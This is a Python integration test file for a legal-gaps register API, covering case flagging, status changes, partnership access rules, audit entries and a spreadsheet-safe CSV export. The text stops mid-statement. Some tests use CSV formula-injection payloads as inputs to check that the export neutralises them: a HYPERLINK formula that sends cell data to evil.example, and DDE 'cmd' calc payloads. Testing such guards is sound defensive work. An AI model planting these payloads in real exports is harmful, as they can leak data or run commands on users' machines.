"""The register of legal gaps (`/v1/legal-gaps` and `POST /v1/escalations/{id}/legal-gap`) through the real
app, on SQLite and PostgreSQL: flag a case (new gap), link more cases, list and filter, CSV export for the
steering group's agenda, status identified → on-agenda → resolved (forward only, optimistic locking), who
may manage a gap, and that a partnership's gaps stay within the organisations of that partnership."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select

import gateway.escalations.service as escalation_service_module
from audit.tables import audit_entries
from escalation import legal_gaps as gap_store  # what the service calls `gap_store`
from escalation.queries import visible_case_ids
from gateway.auth.clients import SYSTEM_SCOPES
from gateway.auth.principal import Scope
from gateway.errors import Unprocessable
from tests.auth_helpers import account_id, register_client, system_token
from tests.integration.escalation.test_api import ENGINES, RIEC, Env, migrated_url, running_env

ZVH = "zvh-amsterdam"
TITLE = "No basis to share police incidents about minors' parents"
DESCRIPTION = "The WGS names no ground for sharing incidents about the parents of a minor in a Bibob check."


@pytest.fixture(scope="module", params=ENGINES)
def env(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    tmp = tmp_path_factory.mktemp("legal-gaps")
    with running_env(tmp, migrated_url(str(request.param), tmp, request)) as the_env:
        yield the_env


def _flag(env: Env, who: str, case_id: str, **body: Any) -> Any:
    return env.post(who, f"/v1/escalations/{case_id}/legal-gap", body)


def _new_gap(env: Env, who: str, case_id: str) -> dict[str, Any]:
    response = _flag(env, who, case_id, title=TITLE, description=DESCRIPTION)
    assert response.status_code == 200, response.text
    gap: dict[str, Any] = response.json()
    return gap


def _status(env: Env, who: str, gap_id: str, status: str, version: int, note: str | None = None) -> Any:
    return env.post(who, f"/v1/legal-gaps/{gap_id}/status",
                    {"expected_version": version, "status": status} | ({"note": note} if note else {}))


def _gap_ids(env: Env, who: str, **filters: Any) -> list[str]:
    response = env.get(who, "/v1/legal-gaps", **filters)
    assert response.status_code == 200, response.text
    return [g["id"] for g in response.json()]


def _gap_steps(env: Env, gap_id: str) -> list[dict[str, Any]]:
    return [e for e in env.audit_events() if e["extra"].get("gap_id") == gap_id]


def test_flag_a_case_link_a_second_and_list(env: Env) -> None:
    first, second = env.open_case(), env.open_case()
    assert _flag(env, "po-politie", first, title=TITLE).status_code == 422  # a new gap needs a description
    assert _flag(env, "po-politie", first, description=DESCRIPTION).status_code == 422
    assert _flag(env, "po-abn", first, title=TITLE, description=DESCRIPTION).status_code == 404  # can't see it
    assert _flag(env, "gemeente-amsterdam-vth", first, title=TITLE, description=DESCRIPTION).status_code == 403

    gap = _new_gap(env, "po-politie", first)
    assert (gap["partnership"], gap["status"], gap["version"]) == (RIEC, "identified", 1)
    assert (gap["title"], gap["description"], gap["created_by_org"]) == (TITLE, DESCRIPTION, "politie")
    assert gap["case_ids"] == [first]
    assert env.detail("po-gemeente", first)["legal_gap"] is True
    assert env.detail("po-gemeente", second)["legal_gap"] is False
    assert first in env.listed("desk-riec", legal_gap=True)
    assert second not in env.listed("desk-riec", legal_gap=True)

    linked = _flag(env, "desk-riec", second, gap_id=gap["id"])
    assert linked.status_code == 200, linked.text
    assert linked.json()["case_ids"] == [first, second]
    assert linked.json()["version"] == 1  # linking is not a status change
    again = _flag(env, "desk-riec", second, gap_id=gap["id"])  # linking twice changes nothing
    assert again.json()["case_ids"] == [first, second]
    assert _flag(env, "desk-riec", second, gap_id=str(uuid.uuid4())).status_code == 404
    assert _flag(env, "desk-riec", second, gap_id="no-such-gap").status_code == 422  # no gap id at all
    # A case of another partnership cannot be linked to this partnership's gap.
    zvh_case = env.open_case(partnership=ZVH, purpose="youth-prevention")
    assert _flag(env, "desk-zvh", zvh_case, gap_id=gap["id"]).status_code == 404
    assert env.detail("desk-zvh", zvh_case)["legal_gap"] is False

    for who in ("desk-riec", "po-om", "po-politie", "desk-lsp"):  # RIEC participants and deciders
        assert gap["id"] in _gap_ids(env, who), who
    for who in ("desk-riec", "po-politie"):  # the coordinating officer and a party see the tier-1 cases ...
        assert env.get(who, f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [first, second]
    for who in ("po-om", "desk-lsp"):  # ... the tier-2/3 deciders read the gap, not cases that are 404 to them
        assert env.get(who, f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == []
    assert gap["id"] in _gap_ids(env, "desk-riec", status="identified", partnership=RIEC)
    assert gap["id"] not in _gap_ids(env, "desk-riec", status="on-agenda")
    assert gap["id"] not in _gap_ids(env, "desk-riec", partnership=ZVH)
    assert env.get("desk-riec", "/v1/legal-gaps", status="closed").status_code == 422

    # Each flag is an audit entry of its case, naming the gap (a new one too); the free text stays out of the log.
    flagged = [(s["extra"]["action"], s["extra"]["gap_id"], s["requester"]["org"]) for s in env.audit_steps(first)]
    assert ("legal_gap_flagged", gap["id"], "politie") in flagged
    linked_steps = [(s["extra"]["action"], s["requester"]["org"]) for s in _gap_steps(env, gap["id"])
                    if s["extra"]["case_id"] == second]
    assert ("legal_gap_flagged", "riec-aa") in linked_steps
    logged = json.dumps(env.audit_events())
    assert TITLE not in logged
    assert DESCRIPTION not in logged


def test_linking_a_case_to_a_gap_it_is_linked_to_already_logs_no_step(env: Env) -> None:
    """A step is in the log exactly when it was taken. Linking a case to a gap it is linked to already
    changes nothing (the answer is the gap as it is), but it was logged as a flag all the same: a privacy
    officer reading the log counted two flags of the case where the register holds one link."""
    first, second = env.open_case(), env.open_case()
    gap = _new_gap(env, "po-politie", first)
    assert _flag(env, "desk-riec", second, gap_id=gap["id"]).status_code == 200
    for who in ("desk-riec", "po-politie"):  # again, by the same organisation and by another
        again = _flag(env, who, second, gap_id=gap["id"])
        assert again.status_code == 200, again.text
        assert (again.json()["case_ids"], again.json()["version"]) == ([first, second], 1)
    flags = [s["requester"]["org"] for s in _gap_steps(env, gap["id"]) if s["extra"]["case_id"] == second]
    assert flags == ["riec-aa"]


def test_a_gaps_history_in_the_audit_log_starts_with_the_flag_that_recorded_it(env: Env) -> None:
    """The register is reportable from the log: every entry about a gap names it, the one that recorded it
    first (it used to say only "new", so a gap's history could not be told from the log)."""
    first, second = env.open_case(), env.open_case()
    gap = _new_gap(env, "po-politie", first)
    assert _flag(env, "desk-riec", second, gap_id=gap["id"]).status_code == 200
    assert _status(env, "desk-riec", gap["id"], "on-agenda", 1).status_code == 200
    steps = [(s["extra"]["action"], s["extra"].get("case_id"), s["extra"].get("new_gap"), s["requester"]["org"])
             for s in _gap_steps(env, gap["id"])]
    assert steps == [("legal_gap_flagged", first, True, "politie"), ("legal_gap_flagged", second, False, "riec-aa"),
                     ("legal_gap_status", None, None, "riec-aa")]


def test_export_for_the_agenda(env: Env) -> None:
    first, second = env.open_case(), env.open_case()
    gap = _new_gap(env, "desk-riec", first)
    assert _flag(env, "po-gemeente", second, gap_id=gap["id"]).status_code == 200
    response = env.get("desk-riec", "/v1/legal-gaps/export")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="legal-gaps-2026-11-25.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))  # as a spreadsheet reads it
    assert rows[0] == ["id", "partnership", "status", "title", "description", "cases", "created_at", "updated_at",
                       "created_by_org", "note", "history"]
    ours = [row for row in rows[1:] if row[0] == gap["id"]]
    assert len(ours) == 1
    assert ours[0][1:6] == [RIEC, "identified", TITLE, DESCRIPTION, f"{first} {second}"]
    assert ours[0][8] == "riec-aa"
    filtered = env.get("desk-riec", "/v1/legal-gaps/export", status="resolved").text
    assert gap["id"] not in filtered
    # Outside the partnership the export holds the header only as far as this gap goes.
    assert gap["id"] not in env.get("po-abn", "/v1/legal-gaps/export").text
    assert env.get("cp-politie", "/v1/legal-gaps/export").status_code == 403


def test_readers_of_a_gap_learn_only_the_cases_they_may_see(env: Env) -> None:
    hidden, shown = env.open_case(), env.open_case()
    env.move_up(shown, 3)  # tier 3: the OM (a tier-3 decider of the RIEC) sees it from now on
    gap = _new_gap(env, "desk-riec", hidden)
    assert _flag(env, "desk-riec", shown, gap_id=gap["id"]).json()["case_ids"] == [hidden, shown]
    assert env.get("po-om", f"/v1/escalations/{hidden}").status_code == 404  # may not know it exists
    assert env.get("po-om", f"/v1/escalations/{shown}").status_code == 200
    listed = next(g for g in env.get("po-om", "/v1/legal-gaps").json() if g["id"] == gap["id"])
    assert listed["case_ids"] == [shown]
    assert env.get("po-om", f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [shown]
    exported = env.get("po-om", "/v1/legal-gaps/export").text
    assert [row[5] for row in csv.reader(io.StringIO(exported)) if row[0] == gap["id"]] == [shown]
    assert hidden not in exported
    # Linking or moving the gap answers with the same view of it.
    third = env.open_case()
    env.move_up(third, 3)
    assert _flag(env, "po-om", third, gap_id=gap["id"]).json()["case_ids"] == [shown, third]
    changed = _status(env, "desk-lsp", gap["id"], "on-agenda", 1)  # tier 2/3: sees the tier-3 cases only
    assert changed.status_code == 200, changed.text
    assert changed.json()["case_ids"] == [shown, third]


def test_the_export_opens_in_a_spreadsheet_with_its_accents_intact(env: Env) -> None:
    """Excel, as Dutch officials use it, reads a CSV without a byte-order mark in the machine's code page:
    "België" shows as "BelgiÃ«". The export starts with the UTF-8 BOM and says charset=utf-8, so it opens
    as written; the formula guard still holds for the cells after it."""
    title = "Géén grondslag voor gegevens uit België over één café"
    gap = _new_gap_with(env, env.open_case(), title, "=ëé: a formula start must stay quoted")
    response = env.get("desk-riec", "/v1/legal-gaps/export")
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content.count(b"\xef\xbb\xbf") == 1  # once, at the start: not a cell's content
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))  # as Excel reads it
    assert rows[0][0] == "id"  # the header's first cell is "id", not "\ufeffid"
    [ours] = [row for row in rows if row[0] == gap["id"]]
    assert ours[3:5] == [title, "'=ëé: a formula start must stay quoted"]
    assert "BelgiÃ«" not in response.content.decode("utf-8-sig")


def test_the_export_lets_no_spreadsheet_formula_through(env: Env) -> None:
    title, description = '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"
    gap = _new_gap_with(env, env.open_case(), title, description)
    rows = [row for row in csv.reader(io.StringIO(env.get("desk-riec", "/v1/legal-gaps/export").text))
            if row[0] == gap["id"]]
    assert [row[3:5] for row in rows] == [["'" + title, "'" + description]]  # shown as text, not run
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["title"] == title  # the API keeps it as is


def test_the_export_lets_no_formula_through_in_a_dutch_spreadsheet_either(env: Env) -> None:
    """A Dutch spreadsheet opens the file with `;` as separator: a `;` or line break inside a title,
    description or note starts a new cell there, which must not be a formula either."""
    title = "Wet Bibob art. 9;=cmd|' /C calc'!A0;"
    description = "First line\n+HYPERLINK(\"http://evil.example/\";\"click\")"
    gap = _new_gap_with(env, env.open_case(), title, description)
    moved = _status(env, "desk-riec", gap["id"], "on-agenda", 1, note="agenda; @SUM(1+1)*cmd|' /C calc'!A0")
    assert moved.status_code == 200, moved.text
    exported = env.get("desk-riec", "/v1/legal-gaps/export").text
    lines = exported.replace("\r\n", "\n").replace("\r", "\n")
    cells = [cell for row in csv.reader(io.StringIO(lines), delimiter=";") for cell in row]
    assert not [c for c in cells if c.lstrip(' \t\n"').startswith(("=", "+", "-", "@"))]
    # The export's own (comma) reading still shows each text readably, in its one cell.
    [row] = [row for row in csv.reader(io.StringIO(exported)) if row[0] == gap["id"]]
    assert [row[3].replace("'", ""), row[4], row[9].replace("'", "")] == [
        title.replace("'", ""), description.replace("\n+", "\n'+"), moved.json()["note"].replace("'", "")]
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["title"] == title  # the API keeps it


def test_the_cli_export_is_the_api_export(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    """`wgs-gateway escalations gaps` and `GET /v1/legal-gaps/export` are one export: same columns, same
    cells (dates, linked cases, note, formula quoting), for a gap whose cases the API reader may all see."""
    from typer.testing import CliRunner

    from gateway.cli import app

    first, second = env.open_case(), env.open_case()
    gap = _new_gap_with(env, first, "=1+1 no basis for parents' incidents", "-A description a sheet would run")
    assert _flag(env, "desk-riec", second, gap_id=gap["id"]).status_code == 200
    moved = _status(env, "desk-riec", gap["id"], "on-agenda", 1, note="@steering group, 3 December")
    assert moved.status_code == 200, moved.text
    response = env.get("desk-riec", "/v1/legal-gaps/export", partnership=RIEC)
    assert response.status_code == 200, response.text

    settings = env.container.settings
    monkeypatch.setenv("WGS_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("WGS_DATABASE_URL", settings.effective_database_url)
    result = CliRunner().invoke(app, ["escalations", "gaps", "--partnership", RIEC])
    assert result.exit_code == 0, result.output

    def header_and_ours(text: str) -> list[str]:
        lines = text.splitlines()
        return [lines[0], *(line for line in lines[1:] if line.startswith(gap["id"] + ","))]

    # The same text, framed the same: the command's output is redirected to a file for the agenda, which
    # Excel opens as it opens the download (the byte-order mark once, the same line endings).
    api = header_and_ours(response.content.decode("utf-8-sig"))
    cli = header_and_ours(result.stdout_bytes.decode("utf-8-sig"))
    assert len(api) == 2
    assert cli == api
    assert _framing(result.stdout_bytes) == _framing(response.content)
    row = next(csv.reader(io.StringIO(cli[1])))
    assert row[5] == f"{first} {second}"
    assert [row[3][0], row[4][0], row[9][0]] == ["'", "'", "'"]  # formulas neutralised, as the API does


def _framing(data: bytes) -> tuple[int, set[bytes]]:
    """How a CSV file is framed for a spreadsheet: its byte-order marks, and the line endings it uses (outside
    quoted cells: a partner's text may hold line breaks of its own)."""
    unquoted = re.sub(rb'"(?:[^"]|"")*"', b"", data)
    return data.count(b"\xef\xbb\xbf"), set(re.findall(rb"\r?\n", unquoted))


def test_every_csv_for_a_spreadsheet_is_framed_alike(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    """The statistics download, the legal-gap download and `wgs-gateway escalations gaps` (redirected to a file
    for the steering group's agenda) open in one spreadsheet: each starts with the UTF-8 byte-order mark, once,
    and ends its lines alike. The command printed neither the mark (Excel showed "België" as "BelgiÃ«") nor the
    statistics' line endings."""
    from typer.testing import CliRunner

    from gateway.cli import app

    _new_gap_with(env, env.open_case(), "Geen grondslag voor gegevens uit België", "één café")
    statistics = env.get("desk-riec", "/v1/audit/statistics", format="csv")
    download = env.get("desk-riec", "/v1/legal-gaps/export")
    assert (statistics.status_code, download.status_code) == (200, 200), (statistics.text, download.text)
    settings = env.container.settings
    monkeypatch.setenv("WGS_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("WGS_DATABASE_URL", settings.effective_database_url)
    printed = CliRunner().invoke(app, ["escalations", "gaps"])
    assert printed.exit_code == 0, printed.output
    assert _framing(statistics.content) == (1, {b"\r\n"})
    assert _framing(download.content) == _framing(printed.stdout_bytes) == _framing(statistics.content)
    assert printed.stdout_bytes.startswith(b"\xef\xbb\xbfid,")
    assert "België" in printed.stdout_bytes.decode("utf-8-sig")


def _new_gap_with(env: Env, case_id: str, title: str, description: str) -> dict[str, Any]:
    response = _flag(env, "po-politie", case_id, title=title, description=description)
    assert response.status_code == 200, response.text
    gap: dict[str, Any] = response.json()
    return gap


def test_status_moves_forward_only_and_only_by_the_managing_organisations(env: Env) -> None:
    gap = _new_gap(env, "po-politie", env.open_case())
    gap_id = gap["id"]
    # The holder's officer and a participant that decides no tier flag gaps, but do not manage the register
    # (the municipality does: it sits in tier 3 of the RIEC).
    for who in ("po-politie", "po-fiod"):
        refused = _status(env, who, gap_id, "on-agenda", 1)
        assert refused.status_code == 403, (who, refused.text)
    assert _status(env, "po-abn", gap_id, "on-agenda", 1).status_code == 404
    assert _status(env, "desk-zvh", gap_id, "on-agenda", 1).status_code == 404
    assert _status(env, "desk-riec", gap_id, "identified", 1).status_code == 422  # never back

    on_agenda = _status(env, "desk-riec", gap_id, "on-agenda", 1, note="Steering group 2026-12-10")
    assert on_agenda.status_code == 200, on_agenda.text
    assert (on_agenda.json()["status"], on_agenda.json()["version"]) == ("on-agenda", 2)
    assert on_agenda.json()["note"] == "Steering group 2026-12-10"
    assert _status(env, "desk-lsp", gap_id, "resolved", 1).status_code == 409  # stale version
    assert _status(env, "desk-lsp", gap_id, "on-agenda", 2).status_code == 409  # already on the agenda

    resolved = _status(env, "desk-lsp", gap_id, "resolved", 2)  # a tier-2/3 organisation
    assert resolved.status_code == 200, resolved.text
    assert (resolved.json()["status"], resolved.json()["version"]) == ("resolved", 3)
    assert resolved.json()["note"] == "Steering group 2026-12-10"  # kept when no new note is given
    assert _status(env, "desk-riec", gap_id, "on-agenda", 3).status_code == 409  # resolved stays resolved
    assert _status(env, "desk-riec", gap_id, "resolved", 3).status_code == 409
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap_id}").json()["status"] == "resolved"
    assert gap_id in _gap_ids(env, "po-om", status="resolved")

    # A tier-3-only organisation manages too, and a gap may be resolved straight from `identified`.
    other = _new_gap(env, "po-politie", env.open_case())
    assert _status(env, "po-om", other["id"], "resolved", 1).json()["status"] == "resolved"

    changes = [(s["extra"]["status_before"], s["extra"]["status"], s["requester"]["org"])
               for s in _gap_steps(env, gap_id) if s["extra"]["action"] == "legal_gap_status"]
    assert ("identified", "on-agenda", "riec-aa") in changes
    assert ("on-agenda", "resolved", "landelijk-steunpunt") in changes
    assert "Steering group" not in str(_gap_steps(env, gap_id))


def test_a_gap_of_another_partnership_is_not_visible(env: Env) -> None:
    zvh_gap = _new_gap(env, "desk-zvh", env.open_case(partnership=ZVH, purpose="youth-prevention"))
    assert zvh_gap["partnership"] == ZVH
    for who in ("desk-riec", "po-om", "po-abn", "desk-fec"):
        assert env.get(who, f"/v1/legal-gaps/{zvh_gap['id']}").status_code == 404, who
        assert zvh_gap["id"] not in _gap_ids(env, who), who
        assert zvh_gap["id"] not in env.get(who, "/v1/legal-gaps/export").text, who
        assert zvh_gap["id"] not in _gap_ids(env, who, partnership=ZVH), who
    assert _status(env, "desk-riec", zvh_gap["id"], "on-agenda", 1).status_code == 404
    # The police and the municipality take part in the ZVH: they read it; only the ZVH's desk manages it.
    assert env.get("po-politie", f"/v1/legal-gaps/{zvh_gap['id']}").status_code == 200
    assert _status(env, "po-politie", zvh_gap["id"], "on-agenda", 1).status_code == 403
    assert _status(env, "desk-zvh", zvh_gap["id"], "on-agenda", 1).status_code == 200


def test_a_refused_gap_status_change_leaves_no_unretracted_audit_entry(env: Env) -> None:
    gap = _new_gap(env, "desk-riec", env.open_case())
    assert _status(env, "desk-riec", gap["id"], "on-agenda", 1).status_code == 200
    assert _status(env, "desk-lsp", gap["id"], "resolved", 1).status_code == 409
    claimed = [s for s in _gap_steps(env, gap["id"])
               if s["extra"]["action"] == "legal_gap_status" and "not_applied" not in s["extra"]]
    assert [(s["extra"]["status_before"], s["extra"]["status"]) for s in claimed] == [("identified", "on-agenda")]


def test_a_refused_flag_leaves_no_audit_entry(env: Env) -> None:
    case_id = env.open_case()
    zvh_gap = _new_gap(env, "desk-zvh", env.open_case(partnership=ZVH, purpose="youth-prevention"))
    assert _flag(env, "po-politie", case_id, title=TITLE).status_code == 422
    assert _flag(env, "po-politie", case_id, gap_id=str(uuid.uuid4())).status_code == 404
    assert _flag(env, "po-politie", case_id, gap_id=zvh_gap["id"]).status_code == 404
    assert env.detail("po-politie", case_id)["legal_gap"] is False
    assert [s for s in env.audit_steps(case_id) if "not_applied" not in s["extra"]] == []


def test_a_status_change_looks_up_the_cases_its_reader_may_see_once(env: Env,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A status change links no case: which of the gap's cases the reader may see is asked once (with the gap
    before the change), not a second time for the answer."""
    case_id = env.open_case()
    gap = _new_gap(env, "desk-riec", case_id)
    asked: list[set[str]] = []

    def counted(session: Any, scope: Any, case_ids: set[str]) -> set[str]:
        asked.append(case_ids)
        return visible_case_ids(session, scope, case_ids)

    monkeypatch.setattr(escalation_service_module, "visible_case_ids", counted)
    changed = _status(env, "desk-riec", gap["id"], "on-agenda", 1)
    assert changed.status_code == 200, changed.text
    assert changed.json()["case_ids"] == [case_id]
    assert asked == [{case_id}]


def test_a_resolved_gap_takes_no_new_case(env: Env) -> None:
    """A new problem is a new gap: a case linked to a resolved gap hung on a gap the agenda no longer lists,
    and dropped out of the export the steering group works from. Refused with nothing written and no entry."""
    first, later = env.open_case(), env.open_case()
    gap = _new_gap(env, "desk-riec", first)
    assert _status(env, "desk-riec", gap["id"], "resolved", 1).status_code == 200

    refused = _flag(env, "desk-riec", later, gap_id=gap["id"])
    assert refused.status_code == 409, refused.text
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert "resolved" in refused.json()["detail"]
    assert gap["id"] in refused.json()["detail"]
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [first]
    assert env.detail("desk-riec", later)["legal_gap"] is False
    assert env.audit_steps(later) == []
    assert later not in env.get("desk-riec", "/v1/legal-gaps/export").text

    # A case already on the gap stays on it (linking twice changed nothing before either), and the later case
    # can still be flagged as a new gap.
    assert _new_gap(env, "desk-riec", later)["case_ids"] == [later]


def test_a_gap_resolved_while_a_case_is_being_linked_takes_it_not(env: Env,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The store refuses it too, for a gap resolved between the service's check and the link: the link waits
    for the status change (or it for the link), so no case lands on a gap already resolved."""
    first, later = env.open_case(), env.open_case()
    gap = _new_gap(env, "desk-riec", first)
    real_flag = gap_store.flag_case

    def resolved_meanwhile(session: Any, case_id: str, **kwargs: Any) -> Any:
        gap_store.change_status(session, gap["id"], 1, gap_store.GapStatus.RESOLVED, now=env.clock.now(),
                                actor_org="riec-aa", actor_user="set-up")
        return real_flag(session, case_id, **kwargs)

    monkeypatch.setattr(gap_store, "flag_case", resolved_meanwhile)
    refused = _flag(env, "desk-riec", later, gap_id=gap["id"])
    assert refused.status_code == 409, refused.text
    assert "resolved" in refused.json()["detail"]
    monkeypatch.undo()
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["case_ids"] == [first]
    assert env.detail("desk-riec", later)["legal_gap"] is False
    assert [s for s in env.audit_steps(later) if "not_applied" not in s["extra"]] == []


def _reviewed_gap_steps(env: Env, who: str, gap_id: str) -> list[dict[str, Any]]:
    """The entries about ``gap_id`` that ``who`` finds in the audit review (every page)."""
    found: list[dict[str, Any]] = []
    cursor = -1
    while True:
        page = env.get(who, "/v1/audit/entries", event_type="escalation.step", cursor=cursor, limit=500)
        assert page.status_code == 200, page.text
        body = page.json()
        found += [e["entry"] for e in body["entries"]]
        if body["next_cursor"] is None:
            break
        cursor = body["next_cursor"]
    return [e["event"] for e in found if e["event"]["extra"].get("gap_id") == gap_id]


def test_the_coordinating_officer_reviews_status_changes_made_by_another_organisation(env: Env) -> None:
    """A status change names the gap's partnership, so the partnership's coordinating privacy officer finds
    it in the audit review when another organisation (here a tier-2/3 desk) made it — and only they."""
    gap = _new_gap(env, "po-politie", env.open_case())
    assert _status(env, "desk-lsp", gap["id"], "on-agenda", 1).status_code == 200  # landelijk-steunpunt

    seen = _reviewed_gap_steps(env, "desk-riec", gap["id"])  # riec-aa coordinates the RIEC
    changes = [e for e in seen if e["extra"]["action"] == "legal_gap_status"]
    assert [(e["requester"]["org"], e["extra"]["status"]) for e in changes] == [("landelijk-steunpunt", "on-agenda")]
    assert changes[0]["processing_activity"] == {"partnership": RIEC, "purpose": "legal-gap-register"}
    # Another partnership's coordinating officer and an officer outside the RIEC see nothing of it.
    for who in ("coord-zvh", "po-abn"):
        assert _reviewed_gap_steps(env, who, gap["id"]) == [], who


def test_every_note_stays_on_the_register_with_who_and_when(env: Env) -> None:
    """The register of legal gaps is a record: a status change with a new note used to overwrite the previous
    note. Every change is kept, in order, with its note (if any), the organisation and person that made it and
    when — in the API (one gap and the list) and in the export for the agenda. `note` is still the latest."""
    gap = _new_gap(env, "po-politie", env.open_case())
    first_note, second_note = "Steering group 2026-12-10: agenda item 4", "Resolved by the 2027 amendment"
    first_at = env.clock.now()
    assert _status(env, "desk-riec", gap["id"], "on-agenda", 1, note=first_note).status_code == 200
    env.clock.advance(timedelta(hours=2))
    env.forget_people()  # tokens of two hours ago have expired
    try:
        resolved = _status(env, "desk-lsp", gap["id"], "resolved", 2, note=second_note)
    finally:
        env.clock.set(first_at)
        env.forget_people()  # and those issued now would not be valid yet
    assert resolved.status_code == 200, resolved.text
    assert resolved.json()["note"] == second_note

    expected = [
        {"status_before": "identified", "status": "on-agenda", "note": first_note, "actor_org": "riec-aa",
         "actor_user": "desk-riec", "at": first_at},
        {"status_before": "on-agenda", "status": "resolved", "note": second_note, "actor_org": "landelijk-steunpunt",
         "actor_user": "desk-lsp", "at": first_at + timedelta(hours=2)}]

    def history(view: dict[str, Any]) -> list[dict[str, Any]]:
        return [h | {"at": datetime.fromisoformat(h["at"])} for h in view["history"]]

    assert history(resolved.json()) == expected
    assert history(env.get("po-om", f"/v1/legal-gaps/{gap['id']}").json()) == expected
    [listed] = [g for g in env.get("po-politie", "/v1/legal-gaps").json() if g["id"] == gap["id"]]
    assert history(listed) == expected

    rows = list(csv.DictReader(io.StringIO(env.get("desk-riec", "/v1/legal-gaps/export").content.decode("utf-8-sig"))))
    [row] = [r for r in rows if r["id"] == gap["id"]]
    assert row["note"] == second_note
    assert row["history"].splitlines() == [  # the organisation, not the person: the file goes round
        f"{first_at.isoformat()} riec-aa: identified → on-agenda: {first_note}",
        f"{(first_at + timedelta(hours=2)).isoformat()} landelijk-steunpunt: on-agenda → resolved: {second_note}"]
    # The audit entries are as before: the status change, no note text.
    assert [s["extra"]["status"] for s in _gap_steps(env, gap["id"]) if s["extra"]["action"] == "legal_gap_status"] \
        == ["on-agenda", "resolved"]
    assert first_note not in json.dumps(_gap_steps(env, gap["id"]))


def test_a_change_without_a_note_is_on_the_register_too(env: Env) -> None:
    gap = _new_gap(env, "po-politie", env.open_case())
    moved = _status(env, "po-om", gap["id"], "resolved", 1)
    assert moved.status_code == 200, moved.text
    assert [(h["status_before"], h["status"], h["note"], h["actor_org"]) for h in moved.json()["history"]] == [
        ("identified", "resolved", None, "om-amsterdam")]
    assert env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["history"] == moved.json()["history"]


def test_a_refused_status_change_adds_nothing_to_the_history(env: Env) -> None:
    gap = _new_gap(env, "po-politie", env.open_case())
    assert _status(env, "desk-riec", gap["id"], "on-agenda", 1, note="first").status_code == 200
    assert _status(env, "desk-riec", gap["id"], "resolved", 1, note="stale").status_code == 409
    assert _status(env, "po-politie", gap["id"], "resolved", 2, note="not a manager").status_code == 403
    notes = [h["note"] for h in env.get("desk-riec", f"/v1/legal-gaps/{gap['id']}").json()["history"]]
    assert notes == ["first"]


def test_a_partner_system_neither_reads_nor_manages_gaps_nor_comments(env: Env) -> None:
    """The register of legal gaps and a case's comments are worked by people; a partner system reads the
    cases of its organisation's requests (their comments and ``legal_gap`` flag included) and no more. Why
    pinned: the partner client (``gateway.client``) has no methods for these routes on that ground
    (docs/client.md), so a system token that got through to one would be a hole nobody looks for. The
    system here holds every scope a system may hold, and its organisation (the OM, a RIEC participant and
    tier-3 decider) reads and manages these gaps through its people; the scope that opens these routes,
    ``escalation``, is not one a system can be registered with."""
    case_id = env.open_case(requester="om-amsterdam")
    gap = _new_gap(env, "po-om", case_id)
    every_scope = sorted(scope.value for scope in SYSTEM_SCOPES)
    env.tokens["om-compas"] = system_token(env.client, env.container, "om-compas", every_scope)
    assert env.get("po-om", f"/v1/legal-gaps/{gap['id']}").status_code == 200
    assert env.detail("om-compas", case_id)["legal_gap"] is True  # the system reads its organisation's case

    refused = [env.get("om-compas", "/v1/legal-gaps"), env.get("om-compas", "/v1/legal-gaps/export"),
               env.get("om-compas", f"/v1/legal-gaps/{gap['id']}"),
               _status(env, "om-compas", gap["id"], "on-agenda", 1),
               _flag(env, "om-compas", case_id, gap_id=gap["id"]),
               env.post("om-compas", f"/v1/escalations/{case_id}/comments", {"text": "Re-run planned."})]
    for response in refused:
        assert response.status_code == 403, (response.request.url.path, response.text)
        assert response.headers["content-type"].startswith("application/problem+json")
        assert TITLE not in response.text
    detail = env.detail("po-om", case_id)
    assert (detail["comments"], env.get("po-om", f"/v1/legal-gaps/{gap['id']}").json()["status"]) == (
        [], "identified")
    with pytest.raises(Unprocessable):
        register_client(env.container, "om-compas", ["exchange", Scope.ESCALATION.value])


def _gap_exports(env: Env) -> list[dict[str, Any]]:
    with env.container.engine.connect() as connection:
        rows = connection.execute(select(audit_entries.c.canonical).where(
            audit_entries.c.event_type == "console.action").order_by(audit_entries.c.log_index)).all()
    events = [json.loads(row.canonical)["event"] for row in rows]
    return [e for e in events if e["extra"].get("export") == "legal-gaps.csv"]


def test_the_api_export_is_an_audited_export_as_the_consoles_download_is(env: Env) -> None:
    """`GET /v1/legal-gaps/export` wrote no entry while the console's download of the same file does: who took
    the register, with which filters and how many rows, is on record — never a gap's text. A refused export
    (no escalation scope) is no export."""
    case_id = env.open_case()
    gap = _new_gap(env, "desk-riec", case_id)
    before = len(_gap_exports(env))
    response = env.get("desk-riec", "/v1/legal-gaps/export", partnership=RIEC, status="identified")
    assert response.status_code == 200, response.text
    rows = len(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))) - 1
    assert gap["id"] in response.text
    exports = _gap_exports(env)
    assert len(exports) == before + 1
    export = exports[-1]
    assert export["requester"]["org"] == "riec-aa"
    assert export["requester"]["user"] == account_id(env.container, "desk-riec")  # an account id, no name
    assert export["extra"] == {"action": "export", "channel": "api", "export": "legal-gaps.csv", "rows": rows,
